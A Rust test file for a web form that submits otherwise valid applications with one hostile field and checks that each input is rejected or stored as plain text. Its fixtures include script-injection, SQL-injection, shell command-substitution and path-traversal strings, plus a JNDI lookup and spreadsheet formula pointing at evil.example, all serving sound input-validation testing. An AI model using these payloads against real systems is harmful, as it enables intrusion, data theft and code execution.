//! Tests forms that are valid except for a hostile text in one field.

use std::time::Duration;

use super::{
    Outcome::{self, Received, Returned},
    WELDER, check, filled,
};
use crate::{cases::Cases, harness::Harness};

/// A case: its name, the field, the text, and the outcome.
pub type Row = (&'static str, &'static str, fn() -> String, Outcome);

pub const TOO_LONG: Outcome = Returned("Shorten “");
const SCRIPT: &str = "<script>alert(1)</script>";

const NAMES: &[Row] = &[
    (
        "no name",
        "first_name",
        || "".into(),
        Returned("Enter your first name"),
    ),
    (
        "spaces",
        "first_name",
        || " \t\r\n\u{a0}\u{3000}".into(),
        Returned("Enter your first name"),
    ),
    (
        "invisible characters",
        "first_name",
        || "\u{200b}\u{2060}\u{ad}\u{feff}".into(),
        Returned("Enter your first name"),
    ),
    (
        "control characters",
        "first_name",
        || "\0\u{7}\u{1b}\u{7f}\u{9b}".into(),
        Returned("Enter your first name"),
    ),
    (
        "control characters in a name",
        "first_name",
        || "A\0n\u{1b}[31mn".into(),
        Received,
    ),
    (
        "a line break and a header",
        "first_name",
        || "Ann\r\nBcc: all@example.org".into(),
        Received,
    ),
    ("a script", "first_name", || SCRIPT.into(), Received),
    (
        "an attribute",
        "last_name",
        || "\" onfocus=alert(1) autofocus x=\"".into(),
        Received,
    ),
    ("a comment", "last_name", || "--><!--".into(), Received),
    (
        "SQL",
        "last_name",
        || "'; DROP TABLE outbox; --".into(),
        Received,
    ),
    (
        "a template",
        "last_name",
        || "{{7*7}}${7*7}#{7*7}<%= 7*7 %>".into(),
        Received,
    ),
    (
        "a lookup",
        "last_name",
        || "${jndi:ldap://evil.example/a}".into(),
        Received,
    ),
    (
        "a command",
        "last_name",
        || "$(reboot)`reboot`;|&".into(),
        Received,
    ),
    (
        "a path",
        "last_name",
        || "../../../../etc/passwd%00".into(),
        Received,
    ),
    (
        "a formula",
        "last_name",
        || "=HYPERLINK(\"https://evil.example\")".into(),
        Received,
    ),
    ("a format", "last_name", || "%s%s%n%x{0}{}".into(), Received),
    (
        "right to left",
        "last_name",
        || "\u{202e}eeL\u{2066}\u{5d0}".into(),
        Received,
    ),
    (
        "marks without an end",
        "last_name",
        || format!("Z{}", "\u{336}".repeat(80)),
        Received,
    ),
    (
        "half a pair of surrogates",
        "last_name",
        || "\u{fffd}\u{fffd}".into(),
        Received,
    ),
    (
        "a name of 10,000 characters",
        "first_name",
        || "A".repeat(10_000),
        TOO_LONG,
    ),
    (
        "a name of 64 KB in four-byte characters",
        "first_name",
        || "😀".repeat(16_384),
        TOO_LONG,
    ),
];

const LONG_TEXTS: &[Row] = &[
    (
        "a note of 60,000 characters",
        "additional_info",
        || "n".repeat(60_000),
        TOO_LONG,
    ),
    (
        "a note of 2 MB",
        "additional_info",
        || "n".repeat(1_900_000),
        TOO_LONG,
    ),
    (
        "a note with a script",
        "additional_info",
        || SCRIPT.into(),
        Received,
    ),
    (
        "a note with a closing tag",
        "additional_info",
        || "</textarea><script>alert(1)</script>".into(),
        Received,
    ),
    (
        "a note of line breaks",
        "additional_info",
        || "\r\n".repeat(7_000),
        Received,
    ),
    (
        "a note of control characters",
        "additional_info",
        || "\u{1b}[2J\0".repeat(500),
        Received,
    ),
    (
        "an answer that is blank",
        "q-q1",
        || "\u{200b}".into(),
        Returned("Answer “"),
    ),
    (
        "an answer of 60,000 characters",
        "q-q1",
        || "a".repeat(60_000),
        TOO_LONG,
    ),
    (
        "an answer with markup",
        "q-q1",
        || "</textarea></form><script>alert(1)</script>".into(),
        Received,
    ),
];

pub async fn check_all(rows: &[Row]) {
    let harness = Harness::with(|parts| {
        parts.outcome_wait = Duration::ZERO;
        parts.apply.offer_phone = true;
    })
    .await;
    let mut cases = Cases::default();
    for (number, (name, field, text, outcome)) in rows.iter().enumerate() {
        let form = filled(&harness, number)
            .await
            .without(field)
            .with(field, &text());
        let post = form.post(&harness, WELDER);
        let case = check(&harness, name, post, *outcome);
        cases.run(name, case).await;
        // Also submit the same texts URL-encoded, unless the form was accepted: submitting an
        // accepted form again would only lead to the same receipt.
        if let Returned(_) = outcome {
            let post = form.post_urlencoded(&harness, WELDER);
            cases.run(name, check(&harness, name, post, *outcome)).await;
        }
    }
    cases.finish();
}

#[tokio::test]
async fn a_hostile_name_is_returned_or_stored_as_text() {
    check_all(NAMES).await;
}

#[tokio::test]
async fn a_hostile_long_text_is_returned_or_stored_as_text() {
    check_all(LONG_TEXTS).await;
}
